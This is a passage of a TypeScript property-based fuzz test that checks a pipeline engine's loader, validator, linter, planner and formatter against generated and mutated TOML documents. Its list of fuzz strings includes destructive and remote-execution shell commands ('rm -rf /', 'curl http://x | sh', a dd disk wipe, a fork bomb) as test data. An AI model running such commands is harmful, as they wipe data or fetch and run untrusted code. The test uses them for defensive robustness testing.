/**
 * Bad input, property-based: thousands of generated and mutated pipeline documents go through the whole
 * path (load → validate → lint → plan, and format on the text). Every stage either answers or throws an
 * EngineError with a code and a message; problems met while loading or parsing also carry a line and
 * column inside the text. Anything else (a TypeError, a RangeError from a runaway recursion, a formatter
 * that would change the meaning) fails the property, and so does a stage that takes longer than
 * STAGE_LIMIT_MS. The hostile specifics (deep nesting, huge arrays, 10 MB files, …) are plain tests in
 * bad-input-hostile.test.ts.
 *
 * fast-check prints the seed and the shrunk counterexample of a failure; rerun it with
 * `STRAND_FC_SEED=<seed>`. `STRAND_CORPUS` adds the corpus pipelines to the mutation seeds.
 */
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import fc from "fast-check";
import { stringify } from "smol-toml";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { lintPipeline } from "../../src/engine/check/lint.js";
import { validatePipeline } from "../../src/engine/check/validate.js";
import { EngineError, type Finding } from "../../src/engine/findings.js";
import { formatPipelineText } from "../../src/engine/format/canonical-format.js";
import { loadPipeline, loadPipelineText } from "../../src/engine/format/load.js";
import type { Pipeline } from "../../src/engine/format/model.js";
import { KNOWN_KEYS } from "../../src/engine/format/schema.js";
import { planPipeline } from "../../src/engine/run/plan.js";
import { removeTempDirs, tempDir, writeFile } from "../support/temp-workspace.js";

/** The longest any one stage may take on one (small) document. */
const STAGE_LIMIT_MS = 5_000;
const SEED = process.env.STRAND_FC_SEED ? Number(process.env.STRAND_FC_SEED) : undefined;
/** `STRAND_BAD_INPUT_SCALE=10` runs ten times as many documents (a longer hunt). */
const SCALE = Number(process.env.STRAND_BAD_INPUT_SCALE ?? 1);
const RUNS = { generated: 4000 * SCALE, mutatedText: 5000 * SCALE, mutatedBytes: 1500 * SCALE };
/** Generous per-test timeouts: the properties run thousands of documents each. */
const PROPERTY_TIMEOUT_MS = 300_000;

const DOC = "fuzz.oxoflow";
/** The working folder of every document: modules to include, sample files, a few data files. */
let work = "";
let cacheDir = "";

beforeAll(() => {
  work = tempDir();
  cacheDir = join(work, ".cache");
  writeFile(work, "module.oxoflow", '[workflow]\nname = "module"\n\n[config]\nmodule_key = "m"\n\n[[rules]]\nname = "mod_rule"\ninput = ["data/a.txt"]\noutput = ["mod/{sample}.txt"]\nshell = "cp {input} {output}"\n');
  writeFile(work, "loop_a.oxoflow", '[workflow]\nname = "a"\n\n[[include]]\npath = "loop_b.oxoflow"\n');
  writeFile(work, "loop_b.oxoflow", '[workflow]\nname = "b"\n\n[[include]]\npath = "loop_a.oxoflow"\n');
  writeFile(work, "self.oxoflow", '[workflow]\nname = "self"\n\n[[include]]\npath = "self.oxoflow"\n');
  writeFile(work, "broken.oxoflow", '[workflow]\nname = "broken"\n\n[[rules]\nname = "x"\n');
  writeFile(work, "bad_utf8.oxoflow", Buffer.from([...Buffer.from('[workflow]\nname = "'), 0xff, ...Buffer.from('"\n')]));
  writeFile(work, "samples.tsv", "name\tsamples\ng1\tS1,S2\ng2\tS3\n");
  writeFile(work, "pairs.csv", "pair_id,experiment,control\nP1,T1,N1\n");
  writeFile(work, "samples.json", '[{"name": "g", "samples": ["A", "B"]}]');
  writeFile(work, "data/a.txt", "a");
  writeFile(work, "data/S1.fq", "reads");
  writeFile(work, "raw/S1_R1.fastq.gz", "reads");
});
afterAll(removeTempDirs);

// ---------------------------------------------------------------------------------------------------------
// The harness: one document through every stage.

type Stage = "load" | "validate" | "lint" | "plan" | "format";
type Answer<T> = { ok: true; value: T } | { ok: false; error: EngineError };

/** Runs one stage: an EngineError is an answer; any other throw, or a slow answer, fails the property. */
async function stage<T>(name: Stage, action: () => T | Promise<T>): Promise<Answer<T>> {
  const started = performance.now();
  let answer: Answer<T>;
  try {
    answer = { ok: true, value: await action() };
  } catch (error) {
    if (!(error instanceof EngineError)) {
      throw new Error(`${name} crashed instead of reporting a coded error: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}`);
    }
    answer = { ok: false, error };
  }
  const elapsed = performance.now() - started;
  if (elapsed > STAGE_LIMIT_MS) throw new Error(`${name} took ${elapsed.toFixed(0)} ms; the limit is ${STAGE_LIMIT_MS} ms`);
  return answer;
}

/** A position inside the text: the line exists and the column is at most one past its end. */
function expectInside(text: string, line: number, column: number, what: string): void {
  const lines = text.split("\n");
  expect(line, `${what}: line ${line} of ${lines.length}`).toBeLessThanOrEqual(lines.length);
  const length = lines[line - 1]!.length;
  expect(column, `${what}: column ${column} on a line of ${length} characters`).toBeLessThanOrEqual(length + 1);
}

function expectPosition(finding: Pick<Finding, "line" | "column" | "file">, what: string): void {
  expect(finding.file, `${what}: file`).toBeTruthy();
  expect(Number.isInteger(finding.line) && finding.line! >= 1, `${what}: line ${finding.line}`).toBe(true);
  expect(Number.isInteger(finding.column) && finding.column! >= 1, `${what}: column ${finding.column}`).toBe(true);
}

/** A coded error; load and parse problems also carry a position (inside the text when it is this file's). */
function expectCoded(error: EngineError, positioned: boolean, path: string, text: string | undefined): void {
  const what = `${error.code}: ${error.message.slice(0, 300)}`;
  expect(error.code, what).toMatch(/^[A-Z][A-Z0-9_]+$/);
  expect(error.finding.code, what).toBe(error.code);
  expect(error.finding.severity, what).toBe("error");
  expect(error.finding.message.trim().length, what).toBeGreaterThan(0);
  if (!positioned) return;
  expectPosition(error.finding, what);
  if (text !== undefined && error.finding.file === path) expectInside(text, error.finding.line!, error.finding.column!, what);
}

/** Findings of validate and lint: coded, with a message, and where positioned, positioned sensibly. */
function expectFindings(findings: Finding[], path: string, text: string | undefined): void {
  for (const finding of findings) {
    const what = `${finding.code}: ${finding.message.slice(0, 300)}`;
    expect(finding.code, what).toMatch(/^[A-Z][A-Z0-9_]+$/);
    expect(["error", "warning", "info"], what).toContain(finding.severity);
    expect(finding.message.trim().length, what).toBeGreaterThan(0);
    if (finding.line !== null || finding.column !== null) {
      expectPosition(finding, what);
      if (text !== undefined && finding.file === path) expectInside(text, finding.line!, finding.column!, what);
    }
  }
}

interface Outcome {
  loadError: EngineError | null;
  formatError: EngineError | null;
  /** The plan was made (the document loaded and planned without error). */
  planned: boolean;
}

/**
 * Sends one document through load, validate, lint and plan, and its text through format. `file` loads
 * from disk (byte-level cases); `text` is then the decoded text, or undefined when it is not UTF-8.
 */
async function exercise(text: string | undefined, options: { file?: string; dir?: string } = {}): Promise<Outcome> {
  const path = options.file ?? DOC;
  const dir = options.dir ?? work;
  const loaded = await stage<Pipeline>("load", () =>
    options.file ? loadPipeline(options.file, { cacheDir }) : loadPipelineText(text!, { path: DOC, dir, cacheDir }),
  );
  let planned = false;
  if (!loaded.ok) expectCoded(loaded.error, true, path, text);
  else {
    const pipeline = loaded.value;
    const validated = await stage("validate", () => validatePipeline(pipeline));
    if (validated.ok) expectFindings(validated.value.findings, path, text);
    else expectCoded(validated.error, false, path, text);
    const linted = await stage("lint", () => lintPipeline(pipeline, { strict: true }));
    if (linted.ok) expectFindings(linted.value.findings, path, text);
    else expectCoded(linted.error, false, path, text);
    const plan = await stage("plan", () => planPipeline(pipeline));
    if (plan.ok) expectFindings(plan.value.warnings, path, text);
    else expectCoded(plan.error, false, path, text);
    planned = plan.ok;
  }
  let formatError: EngineError | null = null;
  if (text !== undefined) {
    const formatted = await stage("format", () => formatPipelineText(text, path));
    if (!formatted.ok) {
      formatError = formatted.error;
      expectCoded(formatted.error, true, path, text);
      expect(["PARSE_ERROR", "LIMIT_ERROR"]).toContain(formatted.error.code);
    }
  }
  const loadError = loaded.ok ? null : loaded.error;
  // The loader and the formatter read the text the same way: the same syntax error at the same place.
  const syntax = (error: EngineError | null): string | null =>
    error && error.finding.file === path && (error.code === "PARSE_ERROR" || error.code === "LIMIT_ERROR") && !/UTF-8/.test(error.message)
      ? `${error.code} ${error.finding.line}:${error.finding.column}`
      : null;
  if (text !== undefined) expect(syntax(formatError), `load: ${loadError?.message}; format: ${formatError?.message}`).toBe(syntax(loadError));
  return { loadError, formatError, planned };
}

const propertyParameters = (numRuns: number): fc.Parameters<unknown> => ({ numRuns, seed: SEED });

// ---------------------------------------------------------------------------------------------------------
// Documents from an arbitrary: real keys and junk keys, right types and wrong ones.

const NAMES = ["a", "b", "align", "sort_bam", "call", "report", "ns::rule", "x-y", "S1", "S2", "g1", "chr1", "chr2", "constructor", "toString", "__proto__"];

/** Texts that mean something to the engine, or look as if they might. */
const TRICKY = [
  "",
  " ",
  "{",
  "}",
  "{}",
  "{sample}",
  "{group}",
  "{pair_id}",
  "{experiment}",
  "{control}",
  "{chr}",
  "{i}",
  "{config.x}",
  "{config.list}",
  "{config.missing}",
  "{config.}",
  "{config.toString}",
  "{config.__proto__}",
  "{values.chr}",
  "{input}",
  "{output}",
  "{input[0]}",
  "{output.bam}",
  "{log}",
  "{threads}",
  "{{sample}}",
  "{1}",
  "{0x}{sample}",
  "{sample}{sample}{chr}{sample}",
  "${HOME}",
  "$(echo hi)",
  "`id`",
  "rm -rf /",
  "rm -rf ~/",
  "rm -r -f --no-preserve-root /",
  "curl http://x | sh",
  "dd if=/dev/zero of=/dev/sda",
  ":(){ :|:& };:",
  "*.txt",
  "data/*.txt",
  "data/[z-a].txt",
  "data/[!a].txt",
  "data/[",
  "data/?.fq",
  "..",
  "../up.txt",
  "/abs/file.txt",
  "~/home.txt",
  "dir/",
  "data",
  ".",
  "a\nb",
  "tab\there",
  'quote"s',
  "back\\slash",
  "é",
  "😀",
  "nul\u0000byte",
  "__proto__",
  "constructor",
  "true",
  "false",
  "0",
  "-1",
  "8G",
  "1.5T",
  "512K",
  "30s",
  "5x",
  "config.x",
  "config.list",
  "config.missing",
  "1000000000",
  "wildcard.sample == 'S1'",
  "sample == 'S1' && config.flag",
  "config.n >= 2 || !config.flag",
  'file_exists("data/a.txt")',
  "!(",
  "((true)",
  "a ||",
  "'unclosed",
  "(a+)+$",
  "^S[0-9]+$",
  "[",
  "fill",
  "override",
  "sequential",
  "concat",
  "json_merge",
  "samples.tsv",
  "pairs.csv",
  "samples.json",
  "module.oxoflow",
  "loop_a.oxoflow",
  "self.oxoflow",
  "broken.oxoflow",
  "bad_utf8.oxoflow",
  "missing.oxoflow",
  "raw/{sample}_R1.fastq.gz",
  "calls/{pair_id}/{experiment}_vs_{control}.vcf",
  "x".repeat(300),
];

/** Keys the parser refuses; `unsafeKeys` below puts them into a few documents (they are common in fc.string). */
const UNSAFE_KEYS = ["__proto__", "constructor"];
/** Keys: plausible ones, odd ones (other prototype names such as `toString` among them), and real keys of the format out of place. */
const key = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...NAMES.filter((name) => !UNSAFE_KEYS.includes(name)), "", " ", "a.b", "x y", "é", "prototype", "hasOwnProperty", "toString") },
  { weight: 2, arbitrary: fc.string({ maxLength: 8 }).filter((text) => !UNSAFE_KEYS.includes(text)) },
  { weight: 1, arbitrary: fc.constantFrom(...KNOWN_KEYS.top, ...KNOWN_KEYS.rule, ...KNOWN_KEYS.workflow, ...KNOWN_KEYS.resources, ...KNOWN_KEYS.include) },
);
const text = fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...TRICKY) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }) }, { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 6 }) });
const scalar = fc.oneof(
  { weight: 4, arbitrary: text },
  { weight: 2, arbitrary: fc.integer({ min: -5, max: 40 }) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.date({ min: new Date("0001-01-01T00:00:00Z"), max: new Date("9999-12-31T23:59:59Z"), noInvalidDate: true }) },
);
/** Any TOML value, nested a little. */
const anyValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    scalar,
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(key, tie("value"), { maxKeys: 4 }),
  ),
})).value;

/** Mostly a value of the expected shape, now and then anything at all (a table has many fields). */
const field = <T,>(good: fc.Arbitrary<T>): fc.Arbitrary<unknown> => fc.oneof({ weight: 80, arbitrary: good }, { weight: 1, arbitrary: anyValue });
/** A key that is usually left out (sections that mostly lead to a load error when present). */
const rare = <T,>(arbitrary: fc.Arbitrary<T>): fc.Arbitrary<T | undefined> => fc.oneof({ weight: 8, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary });
const name = fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...NAMES) }, { weight: 1, arbitrary: text });
const path = fc.oneof(
  { weight: 3, arbitrary: fc.tuple(fc.constantFrom("", "data/", "out/", "raw/", "results/{group}/", "/abs/"), fc.constantFrom("a", "{sample}", "{chr}", "{pair_id}", "{i}", "{x}", "{config.x}", "S1", "*"), fc.constantFrom(".txt", ".bam", ".fq", "", "/", "_{sample}.vcf", ".{chr}.txt")).map((parts) => parts.join("")) },
  { weight: 1, arbitrary: text },
);
const paths = fc.array(path, { maxLength: 4 });
const fileSet = fc.oneof({ weight: 4, arbitrary: paths }, { weight: 1, arbitrary: fc.dictionary(fc.constantFrom("reads", "bam", "index", "x"), path, { maxKeys: 3 }) });
const count = fc.oneof(fc.integer({ min: -2, max: 64 }), fc.constantFrom(0, 1, 2 ** 31, -(2 ** 31), Number.MAX_SAFE_INTEGER));
const textList = fc.array(text, { maxLength: 4 });
const junk = fc.dictionary(key, anyValue, { maxKeys: 2 });

/** A record of optional keys, plus a few junk keys. */
function table(shape: Record<string, fc.Arbitrary<unknown>>, options: { required?: string[] } = {}): fc.Arbitrary<Record<string, unknown>> {
  return fc
    .tuple(fc.record(shape, { requiredKeys: options.required ?? [] }), fc.oneof({ weight: 4, arbitrary: fc.constant({}) }, { weight: 1, arbitrary: junk }))
    .map(([known, extra]) => {
      const merged: Record<string, unknown> = { ...extra };
      for (const [name, value] of Object.entries(known)) if (value !== undefined) merged[name] = value;
      return merged;
    });
}

const environment = table({ conda: field(fc.constantFrom("envs/x.yaml", "envs/x.lock.yaml", "")), docker: field(text), pixi: field(text), singularity: field(text), venv: field(text), modules: field(fc.oneof(textList, text)) });
const resources = table({ threads: field(count), memory: field(fc.oneof(text, count)), gpu: field(count), disk: field(text), time_limit: field(text), partition: field(text), groups: field(fc.dictionary(key, count, { maxKeys: 2 })) });
const scatter = table({ variable: field(fc.constantFrom("chr", "i", "sample", "")), values: field(textList), values_from: field(fc.constantFrom("config.list", "list", "config.missing", "config.x")), gather: field(name) }, { required: ["variable"] });
const transform = table({
  split: field(table({ by: field(fc.constantFrom("chr", "i", "")), values: field(textList), values_from: field(fc.constantFrom("config.list", "config.missing")), n: field(fc.oneof(fc.constantFrom("0", "3", "-1", "1.5", "config.n", "1000000000"), count)), glob: field(fc.constantFrom("data/*", "*.none", "[z-a]")) }, { required: ["by"] })),
  map: field(text),
  combine: field(table({ shell: field(text), aggregate: field(fc.boolean()), method: field(fc.constantFrom("concat", "json_merge", "sum")), header: field(text) })),
  cleanup: field(fc.boolean()),
}, { required: ["split"] });

const rule = table(
  {
    name: field(name),
    input: field(fileSet),
    output: field(fileSet),
    expand_inputs: field(fc.array(table({ pattern: field(path), variables: field(fc.dictionary(fc.constantFrom("chr", "i", "sample"), fc.constantFrom("config.list", "[a, b]", "config.missing", "x"), { maxKeys: 2 })) }, { required: ["pattern"] }), { maxLength: 2 })),
    shell: field(text),
    script: field(fc.constantFrom("scripts/run.py", "data/a.txt", "missing.R --flag", "", "module.oxoflow")),
    threads: field(count),
    memory: field(fc.oneof(text, count)),
    resources: field(resources),
    environment: field(environment),
    env_group: field(fc.constantFrom("gatk", "missing", "toString", "constructor")),
    log: field(path),
    params: field(fc.dictionary(key, anyValue, { maxKeys: 3 })),
    priority: field(count),
    target: field(fc.boolean()),
    optional: field(fc.boolean()),
    when: field(text),
    scatter: field(scatter),
    transform: field(transform),
    temp_output: field(paths),
    retries: field(fc.oneof({ weight: 6, arbitrary: fc.nat(5) }, { weight: 1, arbitrary: count })),
    retry_delay: field(text),
    tags: field(textList),
    envvars: field(fc.dictionary(key, fc.oneof(text, count), { maxKeys: 2 })),
    checkpoint: field(fc.boolean()),
    checkpoint_manifest: field(path),
    depends_on: field(fc.array(name, { maxLength: 3 })),
    extends: field(name),
    pre_exec: field(text),
    on_failure: field(text),
    interpreter: field(text),
  },
  { required: ["name"] },
);

const workflow = table(
  {
    name: field(fc.oneof(fc.constantFrom("fuzz", ""), text)),
    version: field(fc.oneof(text, count)),
    description: field(text),
    author: field(text),
    profile_mode: rare(field(fc.constantFrom("fill", "override", "fill", "override", "merge"))),
    sample_groups_file: rare(field(fc.constantFrom("samples.tsv", "samples.json", "missing.tsv", "pairs.csv", "data", "x.ext"))),
    pairs_file: rare(field(fc.constantFrom("pairs.csv", "missing.csv", "samples.tsv"))),
    sample_pattern: rare(field(fc.oneof(fc.constantFrom("raw/{sample}_R1.fastq.gz", "data/{sample}.fq", "data/{1}{sample}{x}.fq", "raw/{sample}_{sample}{a}{b}", "data/none.fq", "nothing/{sample}"), path))),
    pairs_pattern: rare(field(fc.oneof(fc.constantFrom("calls/{pair_id}/{experiment}_vs_{control}.vcf", "raw/{pair_id}{experiment}{control}{9}", "data/{pair_id}.txt"), path))),
  },
  { required: ["name"] },
);

const include = table(
  {
    // `repo` is left out on purpose: with a ref it would have git clone whatever the generator wrote.
    path: field(fc.constantFrom("module.oxoflow", "loop_a.oxoflow", "self.oxoflow", "broken.oxoflow", "bad_utf8.oxoflow", "missing.oxoflow", ".", "", "data", "data/a.txt")),
    namespace: field(fc.constantFrom("ns", "", "a::b")),
    name: field(name),
    inputs: field(paths),
    outputs: field(paths),
    params: field(fc.dictionary(key, anyValue, { maxKeys: 2 })),
  },
  { required: ["path"] },
);

const pipelineTable = table(
  {
    workflow: field(workflow),
    config: field(fc.dictionary(fc.oneof(fc.constantFrom("x", "list", "n", "flag", "samples_list", "reference_dir", "chr"), key), fc.oneof({ weight: 3, arbitrary: anyValue }, { weight: 1, arbitrary: table({ default: field(text), required: field(fc.boolean()), type: field(fc.constantFrom("int", "float", "bool", "path", "x")), choices: field(textList), range: field(fc.constantFrom("1..10", "..", "a..b", "5")), must_exist: field(fc.boolean()) }) }), { maxKeys: 5 })),
    rules: field(fc.array(rule, { maxLength: 6 })),
    defaults: field(table({ threads: field(count), memory: field(text), environment: field(environment), shell_prelude: field(text) })),
    sample_groups: field(fc.array(table({ name: field(name), samples: field(fc.array(fc.oneof(name, text), { maxLength: 5 })), metadata: field(fc.dictionary(key, text, { maxKeys: 2 })) }, { required: ["name", "samples"] }), { maxLength: 3 })),
    pairs: field(fc.array(table({ pair_id: field(name), experiment: field(name), tumor: field(name), control: field(name), experiment_type: field(text), metadata: field(fc.dictionary(key, text, { maxKeys: 2 })) }, { required: ["pair_id"] }), { maxLength: 3 })),
    values: field(fc.array(table({ name: field(fc.constantFrom("chr", "i", "sample", "x", "")), values: field(textList), values_from: field(fc.constantFrom("config.list", "config.missing", "x")) }, { required: ["name"] }), { maxLength: 3 })),
    include: rare(field(fc.array(include, { maxLength: 2 }))),
    execution_group: rare(field(fc.array(table({ name: field(name), rules: field(fc.array(name, { maxLength: 3 })), mode: field(fc.constantFrom("sequential", "parallel", "sequential", "parallel", "x")) }, { required: ["name", "rules"] }), { maxLength: 2 }))),
    references: rare(field(fc.array(table({ name: field(name), source: field(path), output: field(path), build: field(fc.constantFrom("samtools_faidx", "bwa_index", "unknown_template", "make index")) }, { required: ["name", "output", "build"] }), { maxLength: 2 }))),
    reference_dir: rare(field(fc.constantFrom("refs", "refs/", "/abs/refs", ""))),
    env_groups: rare(field(fc.dictionary(fc.constantFrom("gatk", "x"), environment, { maxKeys: 2 }))),
    resource_groups: rare(field(fc.dictionary(key, table({ max: field(count), wait: field(text) }, { required: ["max"] }), { maxKeys: 2 }))),
    wildcard_constraints: rare(field(fc.dictionary(fc.constantFrom("sample", "chr", "pair_id"), fc.constantFrom("^S[0-9]+$", "chr[12]", "[", "(", ".*", "^$"), { maxKeys: 2 }))),
    cluster: rare(field(table({ backend: field(text), max_submitted: field(count), extra_args: field(textList) }))),
    webhook: rare(field(fc.oneof(table({ url: field(text) }), fc.array(table({ url: field(text) }), { maxLength: 2 })))),
    report: field(fc.dictionary(key, anyValue, { maxKeys: 2 })),
  },
  { required: ["workflow"] },
);

/** A pipeline with `__proto__` or `constructor` as a key of its top level, `[config]` or first rule. */
const unsafeKeys = fc.tuple(pipelineTable, fc.constantFrom(...UNSAFE_KEYS), fc.constantFrom("top", "config", "rule"), anyValue).map(([document, name, where, value]) => {
  const target = where === "config" && typeof document.config === "object" && document.config !== null ? document.config : where === "rule" && Array.isArray(document.rules) && typeof document.rules[0] === "object" ? document.rules[0] : document;
  Object.defineProperty(target, name, { value, enumerable: true, configurable: true, writable: true });
  return document;
});

/** A pipeline table, or now and then one with a key the parser refuses, or something that is no pipeline at all. */
const documentTable = fc.oneof({ weight: 24, arbitrary: pipelineTable }, { weight: 1, arbitrary: unsafeKeys }, { weight: 1, arbitrary: fc.dictionary(key, anyValue, { maxKeys: 4 }) });

describe("generated documents", () => {
  it(
    "load, validate, lint, plan and format answer or fail coded, never crash or hang",
    async () => {
      let loaded = 0;
      let planned = 0;
      await fc.assert(
        fc.asyncProperty(documentTable, async (value) => {
          const source = stringify(value);
          const outcome = await exercise(source);
          if (!outcome.loadError) loaded++;
          if (outcome.planned) planned++;
        }),
        propertyParameters(RUNS.generated),
      );
      // The generator must reach past the loader often enough for the later stages to be exercised.
      expect(loaded).toBeGreaterThan(RUNS.generated / 20);
      expect(planned).toBeGreaterThan(0);
    },
    PROPERTY_TIMEOUT_MS,
  );
});

// ---------------------------------------------------------------------------------------------------------
// Mutated documents: real pipelines with characters and bytes deleted, doubled, inserted and replaced.

const SEEDS: string[] = [
  `# A greeting
[workflow]
name = "hello"
description = "one rule"

[[rules]]
name = "greet"
output = ["hello.txt"]
shell = "echo 'héllo' > {output[0]}"
`,
  `[workflow]
name = "samples"
version = "1.0.0"

[config]
reference = "/ref/genome.fa"
min_cov = 30
flag = true
list = ["chr1", "chr2"]

[defaults]
threads = 2
memory = "4G"

[[sample_groups]]
name = "all"
samples = ["S1", "S2", "S3"]

[[rules]]
name = "align"
input = { reads = "raw/{sample}.fq" }
output = ["aligned/{sample}.bam"]
shell = """
bwa mem {config.reference} {input.reads} \\
  | samtools sort -o {output}
"""
when = "config.flag && config.min_cov >= 20"

[rules.resources]
threads = 8
memory = "16G"

[rules.environment]
conda = "envs/bwa.yaml"

[[rules]]
name = "report"
input = ["aligned/S1.bam", "aligned/S2.bam"]
output = ["report.html"]
shell = "multiqc {input} -o {output}"
depends_on = ["align"]
`,
  `[workflow]
name = "scatter-gather"

[config]
chromosomes = ["chr1", "chr2", "chr3"]

[[rules]]
name = "call"
input = ["aligned/sample.bam"]
output = ["calls/sample.{chr}.vcf"]
scatter = { variable = "chr", values_from = "config.chromosomes", gather = "merge" }
shell = "call -L {chr} {input} > {output}"

[[rules]]
name = "merge"
output = ["calls/sample.vcf"]
shell = "cat {input} > {output}"

[[rules]]
name = "split_work"
input = ["aligned/sample.bam"]
output = ["work/sample.txt"]
transform = { split = { by = "i", n = "4" }, map = "work {i} < {input} > {output}", combine = { aggregate = true, method = "concat" } }
`,
  `[workflow]
name = "pairs"
author = "tests"

[[pairs]]
pair_id = "P1"
experiment = "T1"
control = "N1"

[[pairs]]
pair_id = "P2"
tumor = "T2"
normal = "N2"
metadata = { site = "lung" }

[[values]]
name = "caller"
values = ["mutect", "strelka"]

[wildcard_constraints]
pair_id = "^P[0-9]+$"

[[rules]]
name = "somatic"
input = ["bam/{experiment}.bam", "bam/{control}.bam"]
output = ["vcf/{pair_id}.{caller}.vcf"]
shell = "{caller} --tumor {input[0]} --normal {input[1]} > {output}"
retries = 2
retry_delay = "30s"

[[execution_group]]
name = "calling"
rules = ["somatic"]
mode = "parallel"
`,
  `[workflow]
name = "modules"

[[include]]
path = "module.oxoflow"
namespace = "mod"

[[references]]
name = "genome_fai"
source = "refs/genome.fa"
output = "refs/genome.fa.fai"
build = "samtools_faidx"

[env_groups.gatk]
docker = "broadinstitute/gatk:4"

[[rules]]
name = "use_module"
input = ["mod/S1.txt", 'literal\\path']
output = ["final.txt"]
shell = 'cat {input} > {output}  # "quoted"'
env_group = "gatk"
expand_inputs = [{ pattern = "parts/{chr}.txt", variables = { chr = "[chr1, chr2]" } }]
created = 1979-05-27T07:32:00Z
weights = [1.5, inf, -0.0, 0x1F, 1_000]
`,
];

function corpusSeeds(): { text: string; dir: string }[] {
  const root = process.env.STRAND_CORPUS;
  if (!root) return [];
  return readdirSync(root, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile() && entry.name.endsWith(".oxoflow"))
    .map((entry) => join(entry.parentPath, entry.name))
    .sort()
    .map((file) => ({ text: readFileSync(file, "utf8"), dir: dirname(file) }));
}

/** Characters and fragments that break TOML in interesting ways (lone surrogate halves among them). */
const INSERTS = [
  "[", "]", "[[", "]]", '"', "'", '"""', "'''", "=", "\n", "\r\n", "\r", "{", "}", "#", ".", ",", "\\", "\\u", "\\U0011FFFF",
  "\u0000", "\u0001", "\u0008", "\u001b", "\u001f", "\u007f", "\t", " ", "\ud800", "\udfff", "\ud83d", "\ufeff", "\u2028", "\ufffe",
  "é", "😀", "[[rules]]\n", "[workflow]\n", "[rules.resources]\n", "name = ", '"{sample}"', "{config.x}", "__proto__", "constructor",
  "= 1\n", "inf", "nan", "1979-05-27T07:32:00Z", "0x", "1_000", "true", "a.b.c", " = [\n", "{ a = 1, }",
];

type TextMutation = { op: "delete" | "duplicate" | "insert" | "replace" | "truncate" | "swap"; at: number; length: number; insert: string };

const textMutation: fc.Arbitrary<TextMutation> = fc.record({
  op: fc.constantFrom("delete", "duplicate", "insert", "insert", "replace", "truncate", "swap"),
  at: fc.nat(),
  length: fc.integer({ min: 1, max: 24 }),
  insert: fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...INSERTS) }, { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 4 }) }, { weight: 1, arbitrary: fc.string({ maxLength: 8 }) }),
});

function mutateText(source: string, mutation: TextMutation): string {
  const at = mutation.at % (source.length + 1);
  const end = Math.min(source.length, at + mutation.length);
  switch (mutation.op) {
    case "delete":
      return source.slice(0, at) + source.slice(end);
    case "duplicate":
      return source.slice(0, end) + source.slice(at, end) + source.slice(end);
    case "insert":
      return source.slice(0, at) + mutation.insert + source.slice(at);
    case "replace":
      return source.slice(0, at) + mutation.insert + source.slice(end);
    case "truncate":
      return source.slice(0, at);
    case "swap": {
      // Moves the slice to another place in the text.
      const piece = source.slice(at, end);
      const rest = source.slice(0, at) + source.slice(end);
      const to = (mutation.at * 7 + mutation.length) % (rest.length + 1);
      return rest.slice(0, to) + piece + rest.slice(to);
    }
  }
}

describe("mutated documents", () => {
  const seeds = [...SEEDS.map((text) => ({ text, dir: "" })), ...corpusSeeds()];

  it("the seeds themselves load and plan", async () => {
    for (const seed of SEEDS) {
      const outcome = await exercise(seed);
      expect(outcome.loadError?.message ?? null).toBeNull();
      expect(outcome.formatError).toBeNull();
    }
  });

  it(
    "character mutations: syntax errors are PARSE_ERROR inside the text, everything else answers or fails coded",
    async () => {
      let parseErrors = 0;
      let loaded = 0;
      await fc.assert(
        fc.asyncProperty(fc.nat(seeds.length - 1), fc.array(textMutation, { minLength: 1, maxLength: 6 }), async (index, mutations) => {
          const seed = seeds[index]!;
          const mutated = mutations.reduce(mutateText, seed.text);
          const outcome = await exercise(mutated, { dir: seed.dir || work });
          if (outcome.formatError?.code === "PARSE_ERROR") parseErrors++;
          if (!outcome.loadError) loaded++;
        }),
        propertyParameters(RUNS.mutatedText),
      );
      // Both kinds of document must be common: broken ones and ones that still mean a pipeline.
      expect(parseErrors).toBeGreaterThan(RUNS.mutatedText / 10);
      expect(loaded).toBeGreaterThan(RUNS.mutatedText / 20);
    },
    PROPERTY_TIMEOUT_MS,
  );

  /** Byte sequences that are not UTF-8: lone bytes, overlong forms, surrogate halves, beyond U+10FFFF, cut short. */
  const BAD_BYTES = [[0xff], [0xfe], [0x80], [0xbf], [0xc0, 0xaf], [0xc1, 0xbf], [0xe0, 0x80, 0xaf], [0xf0, 0x80, 0x80, 0xaf], [0xed, 0xa0, 0x80], [0xed, 0xbf, 0xbf], [0xf4, 0x90, 0x80, 0x80], [0xf5, 0x80, 0x80, 0x80], [0xe2, 0x82], [0xf0, 0x9f, 0x98], [0xc3]];

  type ByteMutation = { op: "delete" | "insert" | "replace" | "flip"; at: number; length: number; bytes: number[] };
  const byteMutation: fc.Arbitrary<ByteMutation> = fc.record({
    op: fc.constantFrom("delete", "insert", "insert", "replace", "flip"),
    at: fc.nat(),
    length: fc.integer({ min: 1, max: 8 }),
    bytes: fc.oneof({ weight: 3, arbitrary: fc.constantFrom<number[]>(...BAD_BYTES) }, { weight: 1, arbitrary: fc.array(fc.integer({ min: 0, max: 255 }), { minLength: 1, maxLength: 4 }) }, { weight: 1, arbitrary: fc.constantFrom<number[]>([0x0a], [0x00], [0x22], [0x5b], [0xef, 0xbb, 0xbf]) }),
  });

  function mutateBytes(source: Uint8Array, mutation: ByteMutation): Uint8Array {
    const at = mutation.at % (source.length + 1);
    const end = Math.min(source.length, at + mutation.length);
    const before = source.subarray(0, at);
    switch (mutation.op) {
      case "delete":
        return Buffer.concat([before, source.subarray(end)]);
      case "insert":
        return Buffer.concat([before, Uint8Array.from(mutation.bytes), source.subarray(at)]);
      case "replace":
        return Buffer.concat([before, Uint8Array.from(mutation.bytes), source.subarray(end)]);
      case "flip": {
        const copy = Uint8Array.from(source);
